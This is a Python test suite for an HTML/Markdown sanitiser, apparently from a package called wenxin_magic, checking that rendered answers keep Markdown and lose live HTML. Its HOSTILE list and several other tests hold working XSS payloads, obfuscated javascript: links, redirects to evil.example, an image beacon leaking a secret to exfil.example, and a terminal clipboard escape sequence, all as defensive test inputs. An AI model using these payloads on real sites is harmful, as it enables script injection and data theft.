"""The one sanitising function: Markdown kept, HTML neutralised, links limited, nothing loaded from an answer."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from wenxin_magic import sanitize
from wenxin_magic.sanitize import clean, code_span, safe_html, safe_markdown, safe_terminal

ALLOWED_TAGS = {"a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5",
                "h6", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "summary",
                "table", "tbody", "td", "th", "thead", "tr", "ul"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "[click](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ok](https://ok.example/)<img src=x onerror=alert(1)>",
    "![leak](https://exfil.example/p.png?q=secret)",
    "![d](data:image/svg+xml,<svg onload=alert(1)>)",
    "<a href='javascript:alert(1)'>x</a>",
    "`` ` <img src=x onerror=alert(1)> ` ``",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$ and \\(\\href{javascript:alert(2)}{y}\\)",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def tags(fragment: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(fragment)
    return parser.found


def assert_inert(fragment: str) -> None:
    for tag, attrs in tags(fragment):
        assert tag in ALLOWED_TAGS, (tag, fragment)
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "style" not in attrs or not re.search(r"url|expression|position", attrs["style"], re.I), attrs
        for name in ("href", "src"):
            if name in attrs:
                assert re.match(r"(https?|mailto):", attrs[name]), (tag, attrs)


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_markdown_renders_inert(attack):
    shown = safe_html(attack)
    assert_inert(shown)
    assert "<img" not in shown and "<script" not in shown.lower()  # shown as text at most: "&lt;img"


def test_benign_markdown_still_renders():
    shown = safe_html("**bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```\n\n"
                      "[docs](https://example.com/d) and $x^2$ and $$\na_1*b_1\n$$\n\n- one\n- two")
    assert "<strong>bold</strong>" in shown and "<em>it</em>" in shown
    assert "<table>" in shown and "<td>1</td>" in shown
    assert "<pre><code>print(1 &lt; 2)\n</code></pre>" in shown
    assert '<a href="https://example.com/d" rel="noopener noreferrer nofollow">docs</a>' in shown
    assert "$x^2$" in shown and "$$\na_1*b_1\n$$" in shown  # math whole, for MathJax
    assert "<li>one</li>" in shown


def test_images_are_links_unless_remote_images_are_allowed():
    text = "![chart](https://example.com/c.png)"
    assert "<img" not in safe_html(text) and 'href="https://example.com/c.png"' in safe_html(text)
    sanitize.allow_remote_images(True)
    try:
        assert '<img src="https://example.com/c.png" alt="chart">' in safe_html(text)
        assert "<img" not in safe_html("![x](data:image/png;base64,AAAA)")  # only http and https load
        assert "<img" not in safe_html("<img src=https://example.com/c.png>")  # and only from Markdown
    finally:
        sanitize.allow_remote_images(False)


def test_plain_text_mode_escapes_everything():
    assert safe_html("<b>**x**</b>", markdown=False) == "&lt;b&gt;**x**&lt;/b&gt;"
    assert safe_html(None, markdown=False) == "" and safe_html(336100, markdown=False) == "336100"


def test_mathjax_link_and_style_commands_are_shown_as_text():
    for command in ("href", "url", "class", "cssId", "style", "htmlClass", "require"):
        shown = safe_html(f"$\\{command}{{javascript:alert(1)}}{{x}}$")
        assert f"\\{command}" not in shown and f"＼{command}" in shown


def test_the_final_gate_keeps_the_views_structure_and_drops_the_rest():
    assembled = ('<details><summary>x</summary><p onclick="alert(1)">y</p></details><sub class="wenxin-footer">'
                 'm</sub><table class="wenxin-grid"><tr><td width="50%" valign="top" style="vertical-align: top;'
                 ' background: url(https://evil.example/)">z</td></tr></table><iframe src=x></iframe>')
    shown = clean(assembled)
    assert "<details><summary>x</summary><p>y</p></details>" in shown and 'class="wenxin-footer"' in shown
    assert 'width="50%"' in shown and "vertical-align" in shown and "url(" not in shown and "iframe" not in shown


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["<", ">", "/", "=", '"', "'", "`", "&", "#", ";", " ", "\n", "img", "svg", "a",
                                 "script", "src", "href", "on", "error", "load", "javascript", ":", "(", ")", "[",
                                 "]", "!", "x", "data", "$", "\\href", "{", "}", "*", "_", "|", "-", "~", "```",
                                 "&#106;", "\t", "iframe", "style", "base", "meta", "math"]), max_size=40))
def test_random_html_ish_text_never_yields_a_live_tag(pieces):
    text = "".join(pieces)
    for fragment in (safe_html(text), safe_html(text, inline=True), safe_html(text, markdown=False)):
        assert_inert(fragment)  # every href and src is http, https or mailto, every tag allowed
        assert "<img" not in fragment and "<script" not in fragment


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>`\\ab\n [](!)*:/&#;", max_size=60))
def test_random_text_in_a_markdown_file_never_holds_a_raw_tag(text):
    written = safe_markdown(text)
    # a CommonMark reader with raw HTML on, as GitHub's or Jupyter's: nothing of the file may read as a tag
    raw = [token.content for token in _tokens(_READER.parse(written)) if token.type in ("html_inline", "html_block")]
    assert not raw, (text, written)


def _tokens(tokens):
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


_READER = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize("text", ["`\n`<b>`", "x `\ny `<img src=x onerror=alert(1)>` z", "a `\n<b>` c",
                                  "``\n`<b>`\n``", "\\`<b>`", "```` `<b>` ````"])
def test_code_spans_across_lines_cannot_unmask_a_tag(text):
    written = safe_markdown(text)
    assert not [t for t in _tokens(_READER.parse(written)) if t.type in ("html_inline", "html_block")], written


def test_a_markdown_file_keeps_markdown_and_neutralises_html():
    written = safe_markdown("**b** <img src=x onerror=alert(1)> `a<b` [x](javascript:alert(1)) [ok](https://e.x/)"
                            "\n![i](https://exfil.example/p.png)\n[r]: javascript:alert(1)\n```html\n<b>code</b>")
    assert "**b** &lt;img src=x onerror=alert(1)>" in written and "`a<b`" in written
    assert "[x]\\(javascript:alert(1))" in written and "[ok](https://e.x/)" in written
    assert "\\![i](https://exfil.example/p.png)" in written and "\\[r]: javascript:" in written
    assert written.endswith("```html\n<b>code</b>\n```")  # the open fence is closed, its code kept


def test_code_spans_cannot_be_closed_early():
    span = code_span("name`) <img src=x onerror=alert(1)> (`")
    assert span.startswith("`` ") and span.endswith(" ``")
    assert "<img" not in safe_html(span).replace("&lt;img", "")


def test_terminal_text_has_no_escape_sequences():
    assert safe_terminal("ok\x1b]52;c;cGF3bmVk\x07 \x1b[2Jdone\n\tend\x9b") == "ok]52;c;cGF3bmVk [2Jdone\n\tend"
